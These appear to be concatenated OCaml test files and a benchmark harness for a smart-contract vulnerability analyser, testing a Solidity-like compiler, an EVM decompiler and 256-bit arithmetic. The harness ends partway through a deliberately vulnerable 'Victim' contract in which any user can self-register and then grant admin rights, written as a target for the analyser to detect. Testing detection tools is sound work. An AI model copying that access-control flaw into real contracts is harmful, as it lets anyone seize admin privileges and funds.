  }
  function worth() public returns (uint256) {
    return this.balance;
  }
}|} in
  let net, owner, _, addr = deploy_src src in
  ignore
    (T.call_fn net ~from:owner ~to_:addr ~value:(U.of_int 12345) "deposit()" []);
  let r = T.call_fn net ~from:owner ~to_:addr "worth()" [] in
  Alcotest.(check string) "balance visible" "0x3039" (U.to_hex (word r));
  Alcotest.(check string) "msg.value recorded" "0x3039"
    (U.to_hex (Ethainter_evm.State.sload (T.state net) addr U.zero))

let test_call_value_transfers () =
  let src = {|
contract Payout {
  function pay(address to, uint256 amount) public payable {
    call_value(to, amount);
  }
}|} in
  let net, owner, other, addr = deploy_src src in
  let before = Ethainter_evm.State.balance (T.state net) other in
  ignore
    (T.call_fn net ~from:owner ~to_:addr ~value:(U.of_int 500)
       "pay(address,uint256)" [ other; U.of_int 500 ]);
  let after = Ethainter_evm.State.balance (T.state net) other in
  Alcotest.(check string) "funds forwarded" "0x1f4"
    (U.to_hex (U.sub after before))

let test_tx_origin () =
  let src = {|
contract O {
  function whoStarted() public returns (address) { return tx.origin; }
}|} in
  let net, owner, _, addr = deploy_src src in
  let r = T.call_fn net ~from:owner ~to_:addr "whoStarted()" [] in
  Alcotest.(check string) "origin is the sender for a direct call"
    (U.to_hex owner)
    (U.to_hex (word r))

(* differential property: compiled arithmetic expressions evaluate to
   the Uint256 value *)
let prop_compiled_arith =
  QCheck_alcotest.to_alcotest
    (QCheck.Test.make ~name:"compiled (a*b+c)%m matches Uint256" ~count:30
       QCheck.(triple (int_bound 100000) (int_bound 100000) (int_bound 100000))
       (fun (a, b, c) ->
         let src =
           Printf.sprintf
             {|contract C { function f() public returns (uint256) { return (%d * %d + %d) %% 65537; } }|}
             a b c
         in
         let net, owner, _, addr = deploy_src src in
         let r = word (T.call_fn net ~from:owner ~to_:addr "f()" []) in
         let expected =
           U.rem
             (U.add (U.mul (U.of_int a) (U.of_int b)) (U.of_int c))
             (U.of_int 65537)
         in
         U.equal r expected))

let () =
  Alcotest.run "minisol"
    [ ( "front-end",
        [ Alcotest.test_case "parse basic" `Quick test_parse_basic;
          Alcotest.test_case "nested mapping type" `Quick
            test_parse_mapping_types;
          Alcotest.test_case "precedence" `Quick test_parse_precedence;
          Alcotest.test_case "parse errors" `Quick test_parse_errors;
          Alcotest.test_case "typecheck errors" `Quick test_typecheck_errors ]
      );
      ( "execution",
        [ Alcotest.test_case "state & params" `Quick test_state_and_params;
          Alcotest.test_case "constructor" `Quick test_constructor_runs;
          Alcotest.test_case "require guards" `Quick test_require_and_guards;
          Alcotest.test_case "modifiers" `Quick test_modifiers_compose;
          Alcotest.test_case "nested mappings" `Quick test_mappings_nested;
          Alcotest.test_case "if/else/while" `Quick test_if_else_while;
          Alcotest.test_case "internal calls" `Quick test_internal_calls;
          Alcotest.test_case "private not dispatched" `Quick
            test_private_not_dispatched;
          Alcotest.test_case "boolean logic" `Quick test_bool_logic;
          Alcotest.test_case "keccak builtin" `Quick test_keccak_builtin;
          Alcotest.test_case "raw storage" `Quick test_raw_storage_ops;
          Alcotest.test_case "selfdestruct" `Quick test_selfdestruct_stmt;
          Alcotest.test_case "storage layout" `Quick test_storage_layout;
          Alcotest.test_case "mapping slot convention" `Quick
            test_mapping_slot_convention;
          Alcotest.test_case "msg.value & balance" `Quick
            test_msg_value_and_balance;
          Alcotest.test_case "call_value transfers" `Quick
            test_call_value_transfers;
          Alcotest.test_case "tx.origin" `Quick test_tx_origin ] );
      ("differential", [ prop_compiled_arith ]) ]
