(* Decompiler tests: block recovery, jump resolution, phi merging,
   scratch-hash resolution, orphan recovery, and dominators. *)

module U = Ethainter_word.Uint256
module B = Ethainter_evm.Bytecode
module Op = Ethainter_evm.Opcode
module Tac = Ethainter_tac.Tac
module D = Ethainter_tac.Decomp
module Dom = Ethainter_tac.Dominators

let decompile asm = D.decompile (B.assemble asm)

let block_count p = List.length (Tac.blocks p)

let has_op p op =
  List.exists (fun s -> s.Tac.s_op = Tac.TOp op) (Tac.stmts p)

let test_straightline () =
  let p =
    decompile
      [ B.Push (U.of_int 1); B.Push (U.of_int 2); B.Op Op.ADD; B.Op Op.POP;
        B.Op Op.STOP ]
  in
  Alcotest.(check int) "one block" 1 (block_count p);
  Alcotest.(check bool) "has ADD" true (has_op p Op.ADD);
  (* ADD's result var has no constant (we only fold selected cases
     with both consts — here both are const so it folds) *)
  let add_stmt =
    List.find (fun s -> s.Tac.s_op = Tac.TOp Op.ADD) (Tac.stmts p)
  in
  match add_stmt.Tac.s_res with
  | Some v ->
      Alcotest.(check (option string)) "constant-folded"
        (Some "0x3")
        (Option.map U.to_hex (Tac.const_of p v))
  | None -> Alcotest.fail "ADD has a result"

let test_jump_resolution () =
  let p =
    decompile
      [ B.PushLabel "target"; B.Op Op.JUMP; B.Op Op.STOP; B.Label "target";
        B.Op Op.STOP ]
  in
  let entry = match Tac.block p 0 with Some b -> b | None -> assert false in
  Alcotest.(check int) "one successor" 1 (List.length entry.Tac.b_succs);
  (* the unreachable STOP between JUMP and the label forms its own
     (unvisited or orphan-ineligible) block; entry's successor is the
     JUMPDEST block *)
  let succ = List.hd entry.Tac.b_succs in
  match Tac.block p succ with
  | Some b ->
      Alcotest.(check bool) "successor starts with JUMPDEST" true
        (List.exists (fun s -> s.Tac.s_op = Tac.TOp Op.JUMPDEST
                               || s.Tac.s_block = succ)
           b.Tac.b_stmts
         || b.Tac.b_stmts = [])
  | None -> Alcotest.fail "missing successor block"

let test_jumpi_two_succs () =
  let p =
    decompile
      [ B.Push U.one; B.PushLabel "yes"; B.Op Op.JUMPI; B.Op Op.STOP;
        B.Label "yes"; B.Op Op.STOP ]
  in
  let entry = match Tac.block p 0 with Some b -> b | None -> assert false in
  Alcotest.(check int) "two successors" 2 (List.length entry.Tac.b_succs)

let test_phi_on_join () =
  (* two paths push different constants, join and store *)
  let asm =
    [ B.Push U.one; B.PushLabel "a"; B.Op Op.JUMPI;
      B.Push (U.of_int 10); B.PushLabel "join"; B.Op Op.JUMP;
      B.Label "a"; B.Push (U.of_int 20); B.PushLabel "join"; B.Op Op.JUMP;
      B.Label "join"; B.Push U.zero; B.Op Op.MSTORE; B.Op Op.STOP ]
  in
  let p = decompile asm in
  (* the MSTORE's value operand must be a phi holding both constants *)
  let mstore =
    List.find (fun s -> s.Tac.s_op = Tac.TOp Op.MSTORE) (Tac.stmts p)
  in
  match mstore.Tac.s_args with
  | [ _off; v ] ->
      let consts = Tac.const_set p v |> List.map U.to_hex |> List.sort compare in
      Alcotest.(check (list string)) "phi collects both" [ "0x14"; "0xa" ] consts
  | _ -> Alcotest.fail "mstore args"

let test_function_return_multi_caller () =
  (* a "function" jumped to from two sites, returning via stack: both
     return sites must be CFG successors of the callee's exit *)
  let asm =
    [ (* call 1 *)
      B.PushLabel "ret1"; B.PushLabel "fn"; B.Op Op.JUMP; B.Label "ret1";
      (* call 2 *)
      B.PushLabel "ret2"; B.PushLabel "fn"; B.Op Op.JUMP; B.Label "ret2";
      B.Op Op.STOP;
      (* the function: just returns *)
      B.Label "fn"; B.Op Op.JUMP ]
  in
  let p = decompile asm in
  (* find the fn block: the one ending in JUMP whose target is a phi *)
  let fn_block =
    List.find
      (fun b ->
        match List.rev b.Tac.b_stmts with
        | { Tac.s_op = Tac.TOp Op.JUMPDEST; _ } :: _ -> false
        | { Tac.s_op = Tac.TOp Op.JUMP; s_args = [ t ]; _ } :: _ ->
            List.length (Tac.const_set p t) = 2
        | _ -> false)
      (Tac.blocks p)
  in
  Alcotest.(check int) "both return sites are successors" 2
    (List.length fn_block.Tac.b_succs)

let test_sha3_args_resolved () =
  (* the mapping-lookup idiom: MSTORE key, MSTORE slot, SHA3(0, 64) *)
  let asm =
    [ B.Op Op.CALLER; B.Push U.zero; B.Op Op.MSTORE;
      B.Push (U.of_int 5); B.Push (U.of_int 32); B.Op Op.MSTORE;
      B.Push (U.of_int 64); B.Push U.zero; B.Op Op.SHA3;
      B.Op Op.POP; B.Op Op.STOP ]
  in
  let p = decompile asm in
  let sha3 = List.find (fun s -> s.Tac.s_op = Tac.TOp Op.SHA3) (Tac.stmts p) in
  match sha3.Tac.s_sha3_args with
  | Some [ key; slot ] ->
      (* key is the CALLER result; slot is the constant 5 *)
      (match Tac.def p key with
      | Some { Tac.s_op = Tac.TOp Op.CALLER; _ } -> ()
      | _ -> Alcotest.fail "key should be CALLER");
      Alcotest.(check (option string)) "slot const" (Some "0x5")
        (Option.map U.to_hex (Tac.const_of p slot))
  | _ -> Alcotest.fail "sha3 args unresolved"

let test_orphan_recovery () =
  (* code after STOP with a JUMPDEST: unreachable but decompiled *)
  let asm =
    [ B.Op Op.STOP; B.Label "orphan"; B.Op Op.CALLER; B.Op Op.SELFDESTRUCT ]
  in
  let p = decompile asm in
  Alcotest.(check bool) "selfdestruct statement exists" true
    (has_op p Op.SELFDESTRUCT);
  let sd =
    List.find (fun s -> s.Tac.s_op = Tac.TOp Op.SELFDESTRUCT) (Tac.stmts p)
  in
  Alcotest.(check bool) "marked orphan" true
    (Tac.is_orphan_block p sd.Tac.s_block)

let test_minisol_whole_contract () =
  let runtime =
    Ethainter_minisol.Codegen.compile_source_runtime
      {|contract C {
          mapping(address => uint256) m;
          address owner;
          constructor() { owner = msg.sender; }
          function put(uint256 v) public { m[msg.sender] = v; }
          function kill() public { require(msg.sender == owner); selfdestruct(owner); }
        }|}
  in
  let p = D.decompile runtime in
  (* every JUMP in a reachable block is resolved *)
  List.iter
    (fun b ->
      if not (Tac.is_orphan_block p b.Tac.b_entry) then
        match List.rev b.Tac.b_stmts with
        | { Tac.s_op = Tac.TOp Op.JUMP; _ } :: _ ->
            Alcotest.(check bool)
              (Printf.sprintf "block %d jump resolved" b.Tac.b_entry)
              true
              (b.Tac.b_succs <> [])
        | _ -> ())
    (Tac.blocks p);
  (* all SHA3s (mapping accesses) resolve their hashed arguments *)
  List.iter
    (fun s ->
      if s.Tac.s_op = Tac.TOp Op.SHA3 then
        Alcotest.(check bool) "sha3 resolved" true (s.Tac.s_sha3_args <> None))
    (Tac.stmts p)

let test_dominators_linear () =
  let p =
    decompile
      [ B.Push U.one; B.PushLabel "b"; B.Op Op.JUMPI; B.Label "mid";
        B.Op Op.STOP; B.Label "b"; B.Op Op.STOP ]
  in
  let doms = Dom.compute p in
  (* entry dominates everything *)
  List.iter
    (fun b ->
      Alcotest.(check bool)
        (Printf.sprintf "entry dominates %d" b.Tac.b_entry)
        true
        (Dom.dominates doms 0 b.Tac.b_entry))
    (Tac.blocks p)

let test_dominators_diamond () =
  (* diamond: entry -> {left,right} -> join; neither branch dominates
     the join, entry does *)
  let asm =
    [ B.Push U.one; B.PushLabel "right"; B.Op Op.JUMPI;
      (* left *)
      B.PushLabel "join"; B.Op Op.JUMP;
      B.Label "right"; B.PushLabel "join"; B.Op Op.JUMP;
      B.Label "join"; B.Op Op.STOP ]
  in
  let p = decompile asm in
  let doms = Dom.compute p in
  let join =
    List.find
      (fun b ->
        List.exists (fun s -> s.Tac.s_op = Tac.TOp Op.STOP) b.Tac.b_stmts)
      (Tac.blocks p)
  in
  (* either branch works: neither may dominate the join *)
  let right =
    List.find
      (fun b ->
        b.Tac.b_entry <> 0 && b.Tac.b_entry <> join.Tac.b_entry
        && b.Tac.b_succs = [ join.Tac.b_entry ])
      (Tac.blocks p)
  in
  Alcotest.(check bool) "entry dominates join" true
    (Dom.dominates doms 0 join.Tac.b_entry);
  Alcotest.(check bool) "branch does not dominate join" false
    (Dom.dominates doms right.Tac.b_entry join.Tac.b_entry)

let test_loc_counts () =
  let p =
    decompile [ B.Push U.one; B.Op Op.POP; B.Op Op.STOP ]
  in
  (* PUSH -> const stmt; POP -> nothing; STOP -> stmt *)
  Alcotest.(check int) "loc" 2 (Tac.loc p)

(* property: decompiling random straight-line stack programs neither
   crashes nor loses the terminator *)
let prop_random_straightline =
  let gen =
    QCheck.Gen.(
      list_size (int_bound 40)
        (oneof
           [ map (fun n -> B.Push (U.of_int (abs n))) int;
             return (B.Op Op.ADD); return (B.Op Op.MUL);
             return (B.Op (Op.DUP 1)); return (B.Op (Op.SWAP 1));
             return (B.Op Op.POP); return (B.Op Op.CALLER);
             return (B.Op Op.ISZERO) ]))
  in
  QCheck_alcotest.to_alcotest
    (QCheck.Test.make ~name:"random straightline decompiles" ~count:100
       (QCheck.make gen)
       (fun items ->
         let asm = items @ [ B.Op Op.STOP ] in
         let p = decompile asm in
         has_op p Op.STOP))

let () =
  Alcotest.run "tac"
    [ ( "decompiler",
        [ Alcotest.test_case "straight line" `Quick test_straightline;
          Alcotest.test_case "jump resolution" `Quick test_jump_resolution;
          Alcotest.test_case "jumpi successors" `Quick test_jumpi_two_succs;
          Alcotest.test_case "phi on join" `Quick test_phi_on_join;
          Alcotest.test_case "multi-caller returns" `Quick
            test_function_return_multi_caller;
          Alcotest.test_case "sha3 args" `Quick test_sha3_args_resolved;
          Alcotest.test_case "orphan recovery" `Quick test_orphan_recovery;
          Alcotest.test_case "whole contract" `Quick
            test_minisol_whole_contract;
          Alcotest.test_case "loc" `Quick test_loc_counts ] );
      ( "dominators",
        [ Alcotest.test_case "linear" `Quick test_dominators_linear;
          Alcotest.test_case "diamond" `Quick test_dominators_diamond ] );
      ("properties", [ prop_random_straightline ]) ]
