(* Unit and property tests for the 256-bit word arithmetic. *)

module U = Ethainter_word.Uint256
module H = Ethainter_word.Hex

let u = U.of_int
let ustr = U.of_string
let check_u msg a b = Alcotest.(check string) msg (U.to_hex a) (U.to_hex b)

let max_u256 = U.max_value
let two_255 = U.shift_left U.one 255

(* ---------- unit tests ---------- *)

let test_basic_constants () =
  check_u "zero" U.zero (u 0);
  check_u "one" U.one (u 1);
  Alcotest.(check bool) "zero is zero" true (U.is_zero U.zero);
  Alcotest.(check bool) "one not zero" false (U.is_zero U.one);
  check_u "max+1 wraps" (U.add max_u256 U.one) U.zero

let test_add_carry_chain () =
  (* force carries across every limb boundary *)
  let a = ustr "0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff" in
  check_u "max + max" (U.add a a)
    (ustr "0xfffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffe");
  let b = ustr "0xffffffffffffffff" in
  check_u "64-bit boundary carry" (U.add b U.one) (ustr "0x10000000000000000");
  let c = ustr "0xffffffffffffffffffffffffffffffff" in
  check_u "128-bit boundary carry" (U.add c U.one)
    (ustr "0x100000000000000000000000000000000");
  let d = ustr "0xffffffffffffffffffffffffffffffffffffffffffffffff" in
  check_u "192-bit boundary carry" (U.add d U.one)
    (ustr "0x1000000000000000000000000000000000000000000000000")

let test_sub_borrow () =
  check_u "0 - 1 wraps to max" (U.sub U.zero U.one) max_u256;
  check_u "simple" (U.sub (u 1000) (u 1)) (u 999);
  let b = ustr "0x10000000000000000" in
  check_u "borrow across limb" (U.sub b U.one) (ustr "0xffffffffffffffff")

let test_mul () =
  check_u "small" (U.mul (u 1234) (u 5678)) (u (1234 * 5678));
  check_u "by zero" (U.mul max_u256 U.zero) U.zero;
  check_u "by one" (U.mul max_u256 U.one) max_u256;
  (* (2^128)^2 = 2^256 = 0 mod 2^256 *)
  let two_128 = U.shift_left U.one 128 in
  check_u "2^128 squared wraps to 0" (U.mul two_128 two_128) U.zero;
  (* (2^255) * 2 wraps *)
  check_u "2^255 * 2 = 0" (U.mul two_255 (u 2)) U.zero;
  (* max * max = 1 mod 2^256 *)
  check_u "max*max" (U.mul max_u256 max_u256) U.one

let test_divmod () =
  let q, r = U.divmod (u 17) (u 5) in
  check_u "17/5" q (u 3);
  check_u "17%5" r (u 2);
  check_u "div by zero is 0 (EVM)" (U.div (u 7) U.zero) U.zero;
  check_u "mod by zero is 0 (EVM)" (U.rem (u 7) U.zero) U.zero;
  let big = ustr "0xde0b6b3a7640000" (* 1e18 *) in
  check_u "1e18 / 1e9" (U.div big (ustr "1000000000")) (ustr "1000000000")

let test_decimal_roundtrip () =
  List.iter
    (fun s ->
      Alcotest.(check string) ("decimal " ^ s) s (U.to_decimal (U.of_decimal s)))
    [ "0"; "1"; "42"; "1000000000000000000";
      "115792089237316195423570985008687907853269984665640564039457584007913129639935" ]

let test_hex_roundtrip () =
  List.iter
    (fun s -> Alcotest.(check string) ("hex " ^ s) s (U.to_hex (U.of_hex s)))
    [ "0x0"; "0x1"; "0xdeadbeef";
      "0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff" ]

let test_bytes_roundtrip () =
  let v = ustr "0x123456789abcdef0fedcba9876543210aabbccddeeff00112233445566778899" in
  check_u "bytes roundtrip" (U.of_bytes (U.to_bytes v)) v;
  Alcotest.(check int) "to_bytes length" 32 (String.length (U.to_bytes v));
  (* short strings are left-padded *)
  check_u "short bytes" (U.of_bytes "\x01\x02") (u 0x0102)

let test_shifts () =
  check_u "shl 4" (U.shift_left (u 0xf) 4) (u 0xf0);
  check_u "shl 256 = 0" (U.shift_left max_u256 256) U.zero;
  check_u "shr" (U.shift_right (u 0xf0) 4) (u 0xf);
  check_u "shr 255 of 2^255" (U.shift_right two_255 255) U.one;
  check_u "shl across limbs" (U.shift_left U.one 200)
    (ustr ("0x1" ^ String.make 50 '0'));
  (* sar: sign extension *)
  check_u "sar of negative" (U.shift_right_arith max_u256 8) max_u256;
  check_u "sar of positive" (U.shift_right_arith (u 256) 8) U.one

let test_bitwise () =
  check_u "and" (U.logand (u 0xff0f) (u 0x0fff)) (u 0x0f0f);
  check_u "or" (U.logor (u 0xf000) (u 0x000f)) (u 0xf00f);
  check_u "xor" (U.logxor (u 0xffff) (u 0x0ff0)) (u 0xf00f);
  check_u "not zero" (U.lognot U.zero) max_u256

let test_comparisons () =
  Alcotest.(check bool) "lt" true (U.lt (u 1) (u 2));
  Alcotest.(check bool) "unsigned: max > 1" true (U.gt max_u256 (u 1));
  (* signed: max_u256 is -1 *)
  Alcotest.(check bool) "slt: -1 < 1" true (U.slt max_u256 (u 1));
  Alcotest.(check bool) "sgt: 1 > -1" true (U.sgt (u 1) max_u256);
  Alcotest.(check bool) "slt: -2 < -1" true
    (U.slt (U.sub U.zero (u 2)) (U.sub U.zero U.one))

let test_signed_div () =
  let neg x = U.neg (u x) in
  check_u "sdiv -7 / 2 = -3 (trunc)" (U.sdiv (neg 7) (u 2)) (neg 3);
  check_u "sdiv 7 / -2 = -3" (U.sdiv (u 7) (neg 2)) (neg 3);
  check_u "sdiv -7 / -2 = 3" (U.sdiv (neg 7) (neg 2)) (u 3);
  check_u "smod -7 % 2 = -1 (sign of dividend)" (U.smod (neg 7) (u 2)) (neg 1);
  check_u "smod 7 % -2 = 1" (U.smod (u 7) (neg 2)) (u 1);
  check_u "sdiv by zero" (U.sdiv (neg 7) U.zero) U.zero

let test_exp () =
  check_u "2^10" (U.exp (u 2) (u 10)) (u 1024);
  check_u "x^0 = 1" (U.exp max_u256 U.zero) U.one;
  check_u "0^0 = 1 (EVM)" (U.exp U.zero U.zero) U.one;
  check_u "10^18" (U.exp (u 10) (u 18)) (ustr "1000000000000000000");
  (* 2^256 wraps to 0 *)
  check_u "2^256 = 0" (U.exp (u 2) (u 256)) U.zero

let test_addmod_mulmod () =
  check_u "addmod basic" (U.addmod (u 10) (u 10) (u 8)) (u 4);
  check_u "addmod with wrap: (max + 2) mod 10" (U.addmod max_u256 (u 2) (u 10))
    (* max = 2^256-1; 2^256+1 mod 10: 2^256 mod 10 = 6, so 7 *)
    (u 7);
  check_u "mulmod basic" (U.mulmod (u 10) (u 10) (u 8)) (u 4);
  check_u "addmod by zero" (U.addmod (u 1) (u 1) U.zero) U.zero;
  check_u "mulmod by zero" (U.mulmod (u 2) (u 2) U.zero) U.zero;
  (* mulmod exceeding 256 bits: max * max mod (max) = 0 *)
  check_u "max*max mod max" (U.mulmod max_u256 max_u256 max_u256) U.zero;
  (* max * max mod (max-1): max = 1 mod (max-1), so result 1 *)
  check_u "max*max mod (max-1)"
    (U.mulmod max_u256 max_u256 (U.sub max_u256 U.one))
    U.one

let test_signextend_byte () =
  (* sign-extend byte 0 of 0xff -> all ones *)
  check_u "signextend 0 0xff" (U.signextend U.zero (u 0xff)) max_u256;
  check_u "signextend 0 0x7f" (U.signextend U.zero (u 0x7f)) (u 0x7f);
  check_u "signextend 1 0x80ff" (U.signextend U.one (u 0x80ff))
    (U.logor (U.shift_left max_u256 16) (u 0x80ff));
  (* BYTE: index from most significant *)
  check_u "byte 31 is LSB" (U.byte (u 31) (u 0xab)) (u 0xab);
  check_u "byte 30" (U.byte (u 30) (u 0xab00)) (u 0xab);
  check_u "byte 0 of small value" (U.byte (u 0) (u 0xab)) U.zero;
  check_u "byte out of range" (U.byte (u 32) max_u256) U.zero

let test_num_bits () =
  Alcotest.(check int) "bits of 0" 0 (U.num_bits U.zero);
  Alcotest.(check int) "bits of 1" 1 (U.num_bits U.one);
  Alcotest.(check int) "bits of 255" 8 (U.num_bits (u 255));
  Alcotest.(check int) "bits of 256" 9 (U.num_bits (u 256));
  Alcotest.(check int) "bits of max" 256 (U.num_bits max_u256)

let test_hex_module () =
  Alcotest.(check string) "decode/encode" "deadbeef"
    (H.encode (H.decode "0xDEADBEEF"));
  Alcotest.(check string) "empty" "" (H.encode (H.decode ""));
  Alcotest.check_raises "odd digits" (Invalid_argument "Hex.decode: odd number of digits")
    (fun () -> ignore (H.decode "0xabc"))

(* ---------- properties ---------- *)

let gen_u256 =
  QCheck.Gen.(
    map4
      (fun a b c d -> U.make a b c d)
      (map Int64.of_int int) (map Int64.of_int int) (map Int64.of_int int)
      (map Int64.of_int int))

let arb_u256 =
  QCheck.make gen_u256 ~print:U.to_hex

let prop name count arb law =
  QCheck_alcotest.to_alcotest (QCheck.Test.make ~name ~count arb law)

let properties =
  [ prop "add commutative" 500
      (QCheck.pair arb_u256 arb_u256)
      (fun (a, b) -> U.equal (U.add a b) (U.add b a));
    prop "add associative" 500
      (QCheck.triple arb_u256 arb_u256 arb_u256)
      (fun (a, b, c) ->
        U.equal (U.add (U.add a b) c) (U.add a (U.add b c)));
    prop "mul commutative" 300
      (QCheck.pair arb_u256 arb_u256)
      (fun (a, b) -> U.equal (U.mul a b) (U.mul b a));
    prop "mul associative" 200
      (QCheck.triple arb_u256 arb_u256 arb_u256)
      (fun (a, b, c) ->
        U.equal (U.mul (U.mul a b) c) (U.mul a (U.mul b c)));
    prop "distributivity" 200
      (QCheck.triple arb_u256 arb_u256 arb_u256)
      (fun (a, b, c) ->
        U.equal (U.mul a (U.add b c)) (U.add (U.mul a b) (U.mul a c)));
    prop "sub inverse of add" 500
      (QCheck.pair arb_u256 arb_u256)
      (fun (a, b) -> U.equal (U.sub (U.add a b) b) a);
    prop "neg involutive" 500 arb_u256 (fun a -> U.equal (U.neg (U.neg a)) a);
    prop "divmod invariant: a = q*b + r, r < b" 300
      (QCheck.pair arb_u256 arb_u256)
      (fun (a, b) ->
        if U.is_zero b then true
        else
          let q, r = U.divmod a b in
          U.equal a (U.add (U.mul q b) r) && U.lt r b);
    prop "shift_left/right by same amount" 300
      (QCheck.pair arb_u256 QCheck.(int_bound 255))
      (fun (a, n) ->
        (* shifting left then right keeps the low (256-n) bits *)
        let masked =
          if n = 0 then a else U.logand a (U.sub (U.shift_left U.one (256 - n)) U.one)
        in
        U.equal (U.shift_right (U.shift_left a n) n) masked);
    prop "shl n = mul 2^n" 300
      (QCheck.pair arb_u256 QCheck.(int_bound 255))
      (fun (a, n) ->
        U.equal (U.shift_left a n) (U.mul a (U.exp (U.of_int 2) (U.of_int n))));
    prop "compare total order vs decimal" 300
      (QCheck.pair arb_u256 arb_u256)
      (fun (a, b) ->
        let c = U.compare a b in
        let dc =
          let da = U.to_decimal a and db = U.to_decimal b in
          compare (String.length da, da) (String.length db, db)
        in
        (c < 0) = (dc < 0) && (c = 0) = (dc = 0));
    prop "hex roundtrip" 300 arb_u256
      (fun a -> U.equal (U.of_hex (U.to_hex a)) a);
    prop "decimal roundtrip" 100 arb_u256
      (fun a -> U.equal (U.of_decimal (U.to_decimal a)) a);
    prop "bytes roundtrip" 300 arb_u256
      (fun a -> U.equal (U.of_bytes (U.to_bytes a)) a);
    prop "addmod matches add for small" 300
      (QCheck.pair QCheck.(int_bound 100000) QCheck.(int_bound 100000))
      (fun (a, b) ->
        U.equal
          (U.addmod (u a) (u b) (u 1000003))
          (u ((a + b) mod 1000003)));
    prop "mulmod matches mul for small" 300
      (QCheck.pair QCheck.(int_bound 100000) QCheck.(int_bound 100000))
      (fun (a, b) ->
        U.equal
          (U.mulmod (u a) (u b) (u 1000003))
          (u (a * b mod 1000003)));
    prop "lognot . lognot = id" 300 arb_u256
      (fun a -> U.equal (U.lognot (U.lognot a)) a);
    prop "de morgan" 300
      (QCheck.pair arb_u256 arb_u256)
      (fun (a, b) ->
        U.equal
          (U.lognot (U.logand a b))
          (U.logor (U.lognot a) (U.lognot b)));
    prop "slt antisymmetric-ish" 300
      (QCheck.pair arb_u256 arb_u256)
      (fun (a, b) ->
        if U.equal a b then (not (U.slt a b)) && not (U.sgt a b)
        else U.slt a b <> U.sgt a b);
  ]

let () =
  Alcotest.run "uint256"
    [ ( "unit",
        [ Alcotest.test_case "constants" `Quick test_basic_constants;
          Alcotest.test_case "add carries" `Quick test_add_carry_chain;
          Alcotest.test_case "sub borrows" `Quick test_sub_borrow;
          Alcotest.test_case "mul" `Quick test_mul;
          Alcotest.test_case "divmod" `Quick test_divmod;
          Alcotest.test_case "decimal roundtrip" `Quick test_decimal_roundtrip;
          Alcotest.test_case "hex roundtrip" `Quick test_hex_roundtrip;
          Alcotest.test_case "bytes roundtrip" `Quick test_bytes_roundtrip;
          Alcotest.test_case "shifts" `Quick test_shifts;
          Alcotest.test_case "bitwise" `Quick test_bitwise;
          Alcotest.test_case "comparisons" `Quick test_comparisons;
          Alcotest.test_case "signed division" `Quick test_signed_div;
          Alcotest.test_case "exp" `Quick test_exp;
          Alcotest.test_case "addmod/mulmod" `Quick test_addmod_mulmod;
          Alcotest.test_case "signextend/byte" `Quick test_signextend_byte;
          Alcotest.test_case "num_bits" `Quick test_num_bits;
          Alcotest.test_case "hex module" `Quick test_hex_module ] );
      ("properties", properties) ]
