(* Benchmark harness: one Bechamel benchmark per reproduced table /
   figure of the paper's evaluation (§6), measuring the cost of the
   computation that regenerates it, followed by a full print-out of
   every table (the actual reproduction output).

   Run with: dune exec bench/main.exe
   Fast mode (skip timing, print tables only):
     dune exec bench/main.exe -- --tables-only
   Scaling comparison only (sequential-vs-parallel scheduler and
   naive-vs-indexed Datalog joins, writes BENCH_pr1.json):
     dune exec bench/main.exe -- --pr1-only
   Result-cache comparison only (cold vs warm sweep, hit rate, writes
   BENCH_pr2.json):
     dune exec bench/main.exe -- --pr2-only
   Phase-split cache only (4-config Fig. 8 ablation sweep, cross-config
   front-end reuse vs the PR 2 single-tier behavior, writes
   BENCH_pr3.json):
     dune exec bench/main.exe -- --pr3-only
   Robustness only (deadline-poll overhead on vs off, adversarial
   timeout tail, writes BENCH_pr4.json):
     dune exec bench/main.exe -- --pr4-only
   Query-planner comparison only (planned vs per-probe-indexed vs
   naive Datalog, declarative ifspec sweep per strategy, cold
   end-to-end sweep, intern-table stats, writes BENCH_pr5.json):
     dune exec bench/main.exe -- --pr5-only
   Serving daemon only (closed-loop capacity, open-loop contracts/s +
   p50/p99 at three offered loads, shed rate at overload, writes
   BENCH_pr6.json):
     dune exec bench/main.exe -- --pr6-only
   Streaming index only (deploy/rotate/destroy scenario: blocks/s,
   verdict lag, re-analyses per mutating block vs full-sweep baseline,
   writes BENCH_pr7.json):
     dune exec bench/main.exe -- --pr7-only
   Pre-decoded EVM programs only (chain-replay tx/s bytewise vs
   decoded, decode-once counters, receipt-stream identity, Kill
   campaign latency per engine, writes BENCH_pr8.json):
     dune exec bench/main.exe -- --pr8-only
   Durability only (warm recovery vs cold re-sweep, journal ingest
   overhead, poison-pill containment, writes BENCH_pr9.json):
     dune exec bench/main.exe -- --pr9-only
   Word representation + threaded dispatch only (word-op ops/s and
   minor-heap words/op for the boxed-int64 reference vs the int-limb
   impl vs the destructive _into variants, the PR 8 chain replay and
   Kill campaign on the threaded engine vs the BENCH_pr8.json
   baselines, writes BENCH_pr10.json):
     dune exec bench/main.exe -- --pr10-only *)

open Bechamel
open Toolkit
module E = Ethainter_experiments.Experiments
module P = Ethainter_core.Pipeline
module S = Ethainter_core.Scheduler
module D = Ethainter_datalog.Datalog
module G = Ethainter_corpus.Generator

(* Benchmarks run the analysis kernels at a reduced corpus size so a
   full Bechamel run stays in seconds; the printed tables below use the
   full default sizes. *)
let bench_size = 60

(* per-table/figure benchmark kernels *)
let t1 () = ignore (E.t1_flagged ~size:bench_size ())
let f6 () = ignore (E.f6_precision ~size:(4 * bench_size) ~sample:10 ())
let s1 () = ignore (E.s1_securify ~size:bench_size ~sample:10 ())
let f7 () = ignore (E.f7_securify2 ~size:bench_size ())
let te () = ignore (E.te_teether ~size:bench_size ())
let e1 () = ignore (E.e1_kill ~size:(bench_size / 2) ())
let rq2 () = ignore (E.rq2_efficiency ~size:bench_size ())
let f8a () = ignore (E.f8a ~size:bench_size ())
let f8b () = ignore (E.f8b ~size:bench_size ())
let f8c () = ignore (E.f8c ~size:bench_size ())

(* component micro-benchmarks: the pipeline stages behind RQ2 *)
let victim_runtime =
  Ethainter_minisol.Codegen.compile_source_runtime
    {|contract Victim {
        mapping(address => bool) admins;
        mapping(address => bool) users;
        address owner;
        modifier onlyAdmins { require(admins[msg.sender]); _; }
        modifier onlyUsers { require(users[msg.sender]); _; }
        constructor() { owner = msg.sender; }
        function registerSelf() public { users[msg.sender] = true; }
        function referUser(address u) public onlyUsers { users[u] = true; }
        function referAdmin(address a) public onlyUsers { admins[a] = true; }
